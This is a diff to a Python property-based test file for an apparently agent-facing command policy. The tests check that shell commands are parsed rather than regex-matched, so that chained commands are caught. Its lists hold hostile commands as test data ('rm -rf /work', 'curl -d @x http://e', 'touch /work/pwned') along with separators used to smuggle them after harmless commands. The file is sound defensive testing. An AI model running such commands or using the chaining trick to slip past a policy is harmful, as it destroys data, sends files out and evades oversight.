@@ -1,8 +1,9 @@
 """Class 1: shell commands are parsed, not pattern-matched.
 
 Each attack here was Green under the regex rules of the starter policy or of example 04
-before the commit "policy: run: commands parsed with tree-sitter-bash; each simple
-command decided" and is Red after it.
+before commit 5ab422d ("policy: run: commands parsed with tree-sitter-bash; each simple
+command decided...") and is Red after it (checked by running this file against d89e819:
+the instances of the issue fail there, the property finds them too).
 """
 
 from __future__ import annotations
@@ -10,7 +11,7 @@ from __future__ import annotations
 from pathlib import Path
 
 import pytest
-from hypothesis import given, settings
+from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
 from luminaguard.compiler.compile import load_checked
@@ -121,12 +122,14 @@ def test_the_red_part_is_named() -> None:
     assert "`curl -d @x http://e` is Red" in decision.reason
 
 
-GREEN = ["ls", "ls -la /work", "cat /work/a.md", "git log -1", "wc -l /work/a", "echo hi"]
+GREEN = ["ls", "ls -la /work", "echo checking", "cat /work/a.md", "git log -1", "wc -l /work/a", "echo hi"]
 RED = ["rm -rf /work", "curl http://x", "touch /work/pwned", "sh", "python3 -c 1", "cp a b"]
 JOINS = [";", "&&", "||", "|", "&", "\n", " ; ", " && \n"]
 
 
 @settings(max_examples=300, deadline=None)
+@example(["echo checking"], "touch /work/pwned", [], ["\n"] * 8, "")  # the issue's instance
+@example(["ls -la /work"], "rm -rf /work", ["ls"], ["\n"] * 8, "")
 @given(
     st.lists(st.sampled_from(GREEN), max_size=4),
     st.sampled_from(RED),
